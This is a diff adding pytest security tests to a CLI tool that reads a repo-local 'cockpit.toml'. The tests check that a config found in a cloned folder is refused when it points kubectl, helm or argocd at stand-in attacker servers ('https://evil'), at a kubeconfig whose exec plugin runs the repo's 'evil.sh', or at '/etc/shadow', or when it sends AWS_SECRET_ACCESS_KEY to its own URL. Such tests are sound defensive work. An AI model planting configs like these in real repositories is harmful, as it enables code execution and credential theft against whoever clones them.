@@ -178,3 +178,189 @@ def test_a_found_config_others_can_write_is_refused(tmp_path, monkeypatch, mode,
         load_config()
     path.chmod(0o644)  # readable by others is fine; writable is not
     assert load_config().source_path == path.resolve()
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        # Another kubeconfig: its `exec` credential plugin is a program kubectl runs.
+        ["kubectl", "rollout", "history", "deploy/checkout", "--kubeconfig", "./kubeconfig"],
+        ["kubectl", "rollout", "history", "deploy/checkout", "--kubeconfig=./kubeconfig"],
+        ["kubectl", "rollout", "history", "deploy/checkout", "-n", "--kubeconfig=./kc"],
+        ["helm", "history", "checkout", "--kubeconfig", "./kubeconfig"],
+        # Another server: it receives the user's token.
+        ["kubectl", "rollout", "history", "deploy/checkout", "--server", "https://evil"],
+        ["kubectl", "rollout", "history", "deploy/checkout", "-shttps://evil"],
+        ["helm", "history", "checkout", "--kube-apiserver=https://evil"],
+        ["argocd", "app", "history", "web", "--server", "evil.example.com"],
+        ["argocd", "app", "history", "web", "--config", "./argocd-config"],
+        ["argocd", "app", "history", "web", "--plaintext"],
+        # Files written or read elsewhere.
+        ["kubectl", "rollout", "history", "deploy/checkout", "--log-file=/tmp/x"],
+        ["kubectl", "rollout", "history", "deploy/checkout", "--cache-dir", "/tmp/x"],
+        ["kubectl", "get", "-f", "https://evil/manifest.yaml"],
+        ["kubectl", "rollout", "history", "deploy/x", "-o", "go-template-file=/etc/shadow"],
+        ["helm", "history", "checkout", "--registry-config", "./r.json"],
+        ["helm", "history", "checkout", "-o"],
+    ],
+)
+def test_history_command_options_are_allowlisted(argv: list[str]) -> None:
+    """A config names the history command's options: none may point the tool at another
+    config, credential plugin or server, or make it write a file."""
+    with pytest.raises(ReaderRefused, match=r"not allowed|needs a value"):
+        reader_argv(argv)
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["helm", "history", "checkout", "-n", "prod", "--kube-context", "eu", "-o", "json"],
+        ["helm", "history", "checkout", "--max=20", "--output=yaml"],
+        ["kubectl", "rollout", "history", "deployment/checkout", "-n", "prod", "--context=eu"],
+        ["kubectl", "rollout", "history", "deployment/checkout", "--revision", "3", "-o", "json"],
+        ["argocd", "app", "history", "web", "--grpc-web", "-o", "wide"],
+    ],
+)
+def test_history_command_keeps_the_everyday_options(argv, tmp_path, monkeypatch) -> None:
+    program = tmp_path / argv[0]
+    program.write_text("#!/bin/sh\nexit 0\n")
+    program.chmod(0o755)
+    monkeypatch.setenv("PATH", str(tmp_path))
+    assert reader_argv(argv) == [str(program), *argv[1:]]
+
+
+def _kubeconfig_with_exec_plugin(folder: Path, canary: Path) -> Path:
+    """A kubeconfig whose user authenticates through an `exec` plugin: `./evil.sh`."""
+    script = folder / "evil.sh"
+    script.write_text(
+        f'#!/bin/sh\necho ran >> {canary}\necho \'{{"apiVersion": '
+        '"client.authentication.k8s.io/v1beta1", "kind": "ExecCredential", '
+        '"status": {"token": "x"}}\'\n'
+    )
+    script.chmod(0o755)
+    kubeconfig = folder / "kubeconfig"
+    kubeconfig.write_text(
+        "apiVersion: v1\nkind: Config\ncurrent-context: c\n"
+        "clusters:\n- name: c\n  cluster:\n    server: https://127.0.0.1:9\n"
+        "contexts:\n- name: c\n  context: {cluster: c, user: u}\n"
+        "users:\n- name: u\n  user:\n    exec:\n"
+        "      apiVersion: client.authentication.k8s.io/v1beta1\n"
+        "      command: ./evil.sh\n      interactiveMode: Never\n"
+    )
+    return kubeconfig
+
+
+@pytest.mark.parametrize("real", [False, True], ids=["kubectl-on-path", "real-kubectl"])
+def test_a_cloned_repos_kubeconfig_plugin_never_runs(real, tmp_path, monkeypatch, capsys) -> None:
+    """The attack: a cloned repo's `./cockpit.toml` points kubectl at the repo's own
+    kubeconfig, whose exec plugin is the repo's script."""
+    import shutil
+
+    clone = tmp_path / "clone"
+    clone.mkdir()
+    canary = tmp_path / "plugin-ran"
+    _kubeconfig_with_exec_plugin(clone, canary)
+    if real:
+        if shutil.which("kubectl") is None:
+            pytest.skip("needs kubectl on PATH to show the real exec plugin stays unrun")
+    else:
+        bin_dir = tmp_path / "bin"
+        bin_dir.mkdir()
+        (bin_dir / "kubectl").write_text(f"#!/bin/sh\necho kubectl >> {canary}\n")
+        (bin_dir / "kubectl").chmod(0o755)
+        monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}/usr/bin{os.pathsep}/bin")
+    (clone / "cockpit.toml").write_text(
+        "[cockpit]\nstore = 'incidents.db'\n"
+        "[[services]]\nname = 'checkout'\n[services.deploys]\n"
+        'history_command = ["kubectl", "rollout", "history", "deployment/checkout",'
+        ' "--kubeconfig", "./kubeconfig"]\n'
+    )
+    (clone / "cockpit.toml").chmod(0o600)
+    monkeypatch.chdir(clone)
+    monkeypatch.delenv("COCKPIT_CONFIG", raising=False)
+    assert main(["deploys", "--since", "7d"]) == 2
+    err = capsys.readouterr().err
+    assert "'--kubeconfig' is not allowed" in err
+    assert not canary.exists()
+
+
+def test_a_found_config_may_not_trust_its_own_binaries(tmp_path, fake_helm, monkeypatch, capsys):
+    """`/proc/self/cwd/tools/helm` is an absolute path into the clone: a config that comes
+    with the folder may not list it in `trusted_binaries`."""
+    helm, fired = fake_helm
+    clone = tmp_path / "clone"
+    (clone / "tools").mkdir(parents=True)
+    (clone / "tools" / "helm").write_bytes(helm.read_bytes())
+    (clone / "tools" / "helm").chmod(0o755)
+    inside = "/proc/self/cwd/tools/helm"
+    config = _config(clone, inside, trusted=[inside])
+    monkeypatch.chdir(clone)
+    monkeypatch.delenv("COCKPIT_CONFIG", raising=False)
+    with pytest.raises(SystemExit) as exit_info:
+        main(["deploys", "--since", "7d"])
+    assert exit_info.value.code == 2
+    err = capsys.readouterr().err.strip()
+    assert err.count("\n") == 0 and "trusted_binaries" in err and "--config" in err
+    assert not fired.exists()
+    # Named on the command line, trusting it is the user's choice.
+    assert main(["--config", str(config), "deploys", "--since", "7d"]) == 0
+    assert fired.exists()
+
+
+SECRET_SENDING_CONFIGS = {
+    "loki token_env": "[[sources]]\nkind = 'loki'\nname = 'logs'\nurl = '{url}'\n"
+    "selector = '{{app=\"x\"}}'\ntoken_env = 'AWS_SECRET_ACCESS_KEY'\n",
+    "elasticsearch token_env": "[[sources]]\nkind = 'elasticsearch'\nname = 'es'\n"
+    "url = '{url}'\ntoken_env = 'AWS_SECRET_ACCESS_KEY'\n",
+    "alertmanager token_env": "[[alertmanagers]]\nurl = '{url}'\n"
+    "token_env = 'AWS_SECRET_ACCESS_KEY'\n",
+    "postgresql store": "[cockpit]\nstore = 'postgresql://postgres@127.0.0.1:1/x'\n",
+    "password_env": "[cockpit]\nstore = 'postgresql://postgres@127.0.0.1:1/x'\n"
+    "password_env = 'AWS_SECRET_ACCESS_KEY'\n",
+}
+
+
+@pytest.mark.parametrize("name", sorted(SECRET_SENDING_CONFIGS))
+@pytest.mark.parametrize("command", [["search", "error"], ["alerts"], ["timeline"]])
+def test_a_found_config_may_not_send_secrets_anywhere(name, command, tmp_path, monkeypatch, capsys):
+    """A cloned repo's `./cockpit.toml` naming `token_env = "AWS_SECRET_ACCESS_KEY"` beside
+    its own server's URL once sent the key as a bearer token."""
+    from tests.fakes.loki import FakeLoki
+
+    server = FakeLoki().start()
+    try:
+        clone = tmp_path / "clone"
+        clone.mkdir()
+        path = clone / "cockpit.toml"
+        path.write_text(SECRET_SENDING_CONFIGS[name].format(url=server.url))
+        path.chmod(0o600)
+        monkeypatch.chdir(clone)
+        monkeypatch.delenv("COCKPIT_CONFIG", raising=False)
+        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
+        with pytest.raises(SystemExit) as exit_info:
+            main(command)
+        assert exit_info.value.code == 2
+        err = capsys.readouterr().err.strip()
+        assert err.count("\n") == 0 and "found in the current folder" in err, err
+        assert "--config" in err
+        assert server.requests == []
+    finally:
+        server.stop()
+
+
+def test_the_found_config_owner_is_checked_on_the_file_read(tmp_path) -> None:
+    """The owner check looks at the open file (fstat), so swapping the name after a check
+    cannot slip another file in."""
+    from cockpit.core.safe_files import read_regular_text
+
+    path = tmp_path / "c.toml"
+    path.write_text("x = 1\n")
+    seen: list[os.stat_result] = []
+    assert read_regular_text(path, what="TOML config", check=seen.append) == "x = 1\n"
+    assert seen[0].st_ino == path.stat().st_ino
+
+    def refuse(info) -> None:
+        raise ConfigError("refused")
+
+    with pytest.raises(ConfigError, match="refused"):
+        read_regular_text(path, what="TOML config", check=refuse)
